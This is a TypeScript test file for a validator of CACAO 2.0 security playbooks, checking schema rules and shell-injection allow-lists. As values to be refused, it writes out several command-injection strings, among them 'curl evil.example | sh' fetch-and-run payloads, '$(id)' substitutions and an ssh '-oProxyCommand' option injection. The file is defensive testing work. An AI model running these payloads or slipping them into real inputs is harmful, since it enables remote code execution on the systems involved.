import assert from 'node:assert/strict';
import { validateCacao } from '../../../../lib/playbooks/cacao';
import { cacaoAjv } from '../../../../lib/playbooks/cacao/ajv';
import { NEGATIVE, sample, validSampleNames } from './samples';

describe('CACAO 2.0 validation (schema + semantic checks)', function () {
  for (const name of validSampleNames()) {
    it(`accepts ${name}`, function () {
      const result = validateCacao(sample(name));
      assert.deepEqual(result.errors, []);
      assert.equal(result.valid, true);
    });
  }

  for (const [name, reason] of Object.entries(NEGATIVE)) {
    it(`refuses ${name} and says why`, function () {
      const result = validateCacao(sample(name));
      assert.equal(result.valid, false);
      assert.ok(
        result.errors.some((e) => reason.test(e)),
        `expected an error matching ${String(reason)}, got:\n${result.errors.join('\n')}`,
      );
    });
  }

  it('says the infinite playbook also never reaches an end', function () {
    const { errors } = validateCacao(sample('soarca-test-infinite_playbook.json'));
    assert.ok(errors.includes('the workflow has no end step: the playbook never finishes'), errors.join('\n'));
  });

  it('flags, without refusing, what real playbooks carry beyond the schema', function () {
    const { valid, warnings } = validateCacao(sample('soarca-test-playbook.json'));
    assert.equal(valid, true);
    assert.ok(
      warnings.some((w) => /unknown property "banana"/.test(w)),
      warnings.join('\n'),
    );
  });

  it('refuses what the schema forbids, naming the path', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    doc.spec_version = 'cacao-1.0';
    const end = Object.keys(doc.workflow).find((id) => id.startsWith('end--'))!;
    doc.workflow[end]!.on_completion = end;
    const { valid, errors } = validateCacao(doc);
    assert.equal(valid, false);
    assert.ok(
      errors.some((e) => /^spec_version: must be one of "cacao-2.0"/.test(e)),
      errors.join('\n'),
    );
    assert.ok(
      errors.some((e) => e.startsWith(`workflow.${end}: has a property its step type forbids`)),
      errors.join('\n'),
    );
  });

  it('refuses a workflow entry that is no CACAO step', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    doc.workflow['script--00000000-0000-4000-8000-000000000000'] = { type: 'script' };
    const { valid, errors } = validateCacao(doc);
    assert.equal(valid, false);
    assert.ok(
      errors.some((e) =>
        e.startsWith('workflow.script--00000000-0000-4000-8000-000000000000: not a CACAO 2.0 step id'),
      ),
      errors.join('\n'),
    );
  });

  it('refuses a typed variable whose value would inject into a command', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    doc.playbook_variables = { __target_ip__: { type: 'ipv4-addr', value: '10.0.0.1 && curl evil.example | sh' } };
    const { errors } = validateCacao(doc);
    assert.ok(
      errors.some((e) =>
        /^playbook_variables\.__target_ip__\.value: ".*" is not an IPv4 address.*command injection/.test(e),
      ),
      errors.join('\n'),
    );
  });

  describe('values an executor may hand to a shell (allow-lists per field)', function () {
    const TARGET = 'ssh--1c3900b4-f86b-430d-b415-12312b9e31f4';
    const AUTH = 'user-auth--b7ddc2ea-9f6a-4e82-8eaa-be202e942090';
    type Doc = ReturnType<typeof sample> & Record<string, Record<string, Record<string, unknown>>>;
    const ssh = () => structuredClone(sample('soarca-ssh-playbook.json')) as Doc;
    const errorsOf = (doc: unknown) => validateCacao(doc).errors;
    const refuses = (doc: unknown, path: string) => {
      const errors = errorsOf(doc);
      const escaped = path.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
      assert.ok(
        errors.some((e) => new RegExp(`^${escaped}: .*: refused as a possible command injection$`).test(e)),
        `expected a refusal of ${path}, got:\n${errors.join('\n')}`,
      );
    };

    it('refuses a user name that ssh would read as an option', function () {
      const doc = ssh();
      doc.authentication_info_definitions[AUTH]!.username = '-oProxyCommand=touch /tmp/x';
      refuses(doc, `authentication_info_definitions.${AUTH}.username`);
    });

    for (const [label, value] of Object.entries({
      quote: "root'",
      'double quote': 'root"',
      parenthesis: 'root(id)',
      brace: 'root{a,b}',
      space: 'root x',
      tab: 'root\tx',
      NUL: 'root\u0000',
      'command substitution': 'root$(id)',
    })) {
      it(`refuses a user id with a ${label}`, function () {
        const doc = ssh();
        doc.target_definitions[TARGET]!.user_id = value;
        refuses(doc, `target_definitions.${TARGET}.user_id`);
      });
    }

    it('accepts ordinary user names, ports, addresses and variable references', function () {
      const doc = ssh();
      Object.assign(doc.target_definitions[TARGET]!, {
        user_id: 'svc.soar@corp',
        port: '2222',
        address: {
          ipv4: ['192.168.0.10', '10.0.0.0/8', '__target_ip__:value'],
          ipv6: ['2001:db8::1'],
          dname: ['fw-1.corp.example', 'hxxp://example.com/v1/'],
          url: ['https://fw.example/api?x=1&y=$2'],
          l2mac: ['00:1a:2b:3c:4d:5e'],
        },
        contact: { email: { work: 'soc+alerts@corp.example' }, phone: { desk: '+1 555-123-4567' } },
      });
      assert.deepEqual(errorsOf(doc), []);
    });

    for (const [field, value] of Object.entries({
      port: '22 -oProxyCommand=x',
      'address.ipv4[0]': '10.0.0.1 $(id)',
      'address.ipv6[0]': 'fe80::1%eth0;id',
      'address.dname[0]': 'example.com;id',
      'address.url[0]': "https://x.example/'$(id)'",
      'address.x-vendor[0]': '--help',
      'contact.email.work': 'a@b.example -X/tmp/log',
      'contact.phone.desk': '+1 (555) $(id)',
    })) {
      it(`refuses ${JSON.stringify(value)} as ${field}`, function () {
        const doc = ssh();
        const target = doc.target_definitions[TARGET]!;
        const [head, ...rest] = field.replace(/\[0\]$/, '').split('.');
        if (rest.length === 0) target[head!] = value;
        else if (field.startsWith('address.')) target.address = { [rest[0]!]: [value] };
        else target.contact = { [rest[0]!]: { [rest[1]!]: value } };
        refuses(doc, `target_definitions.${TARGET}.${field}`);
      });
    }

    it('refuses a typed variable that is not of its type', function () {
      const doc = ssh();
      doc.playbook_variables = {
        __hash__: { type: 'md5-hash', value: 'd41d8cd98f00b204e9800998ecf8427e; id' },
        __port__: { type: 'integer', value: '1 2' },
        __ok__: { type: 'sha256-hash', value: 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855' },
      };
      refuses(doc, 'playbook_variables.__hash__.value');
      refuses(doc, 'playbook_variables.__port__.value');
      assert.ok(!errorsOf(doc).some((e) => e.includes('__ok__')));
    });

    it('refuses a string variable with a control character and flags shell syntax in one', function () {
      const doc = ssh();
      doc.playbook_variables = {
        __nul__: { type: 'string', value: 'ls\u0000-la' },
        __cmd__: { type: 'string', value: 'ls; curl evil.example | sh' },
      };
      const { errors, warnings } = validateCacao(doc);
      assert.ok(
        errors.includes('playbook_variables.__nul__.value contains the control character "\\u0000": refused'),
        errors.join('\n'),
      );
      assert.ok(!errors.some((e) => e.includes('__cmd__')), 'free text is no error');
      assert.ok(
        warnings.some((w) => w.startsWith('playbook_variables.__cmd__.value holds shell syntax (";")')),
        warnings.join('\n'),
      );
    });
  });

  it('enforces the formats a schema names (ajv-formats), offline', function () {
    const ajv = cacaoAjv();
    const time = ajv.compile({ type: 'string', format: 'date-time' });
    const email = ajv.compile({ type: 'string', format: 'email' });
    const uri = ajv.compile({ type: 'string', format: 'uri' });
    assert.equal(time('2026-01-01T00:00:00Z'), true);
    assert.equal(time('yesterday'), false);
    assert.equal(email('soc@corp.example'), true);
    assert.equal(email('soc@corp.example;id'), false);
    assert.equal(uri('https://corp.example/'), true);
    assert.equal(uri('not a uri'), false);
  });

  it('refuses an agent that a step names but nobody defines', function () {
    const doc = structuredClone(sample('soarca-ssh-playbook.json'));
    const action = Object.keys(doc.workflow).find((id) => id.startsWith('action--'))!;
    doc.workflow[action]!.agent = 'ssh--00000000-0000-4000-8000-000000000000';
    const { errors } = validateCacao(doc);
    assert.ok(
      errors.includes(
        `workflow.${action}.agent names ssh--00000000-0000-4000-8000-000000000000, which is not in agent_definitions`,
      ),
      errors.join('\n'),
    );
  });

  it('accepts a loop that goes through a while-condition', function () {
    const { valid, errors } = validateCacao(sample('soarca-docs-example-playbook-if-while-openc2.json'));
    assert.deepEqual(errors, []);
    assert.equal(valid, true);
  });

  it('refuses a value that is not an object', function () {
    assert.deepEqual(validateCacao('playbook'), {
      valid: false,
      errors: ['a CACAO playbook is a JSON object'],
      warnings: [],
    });
  });
});
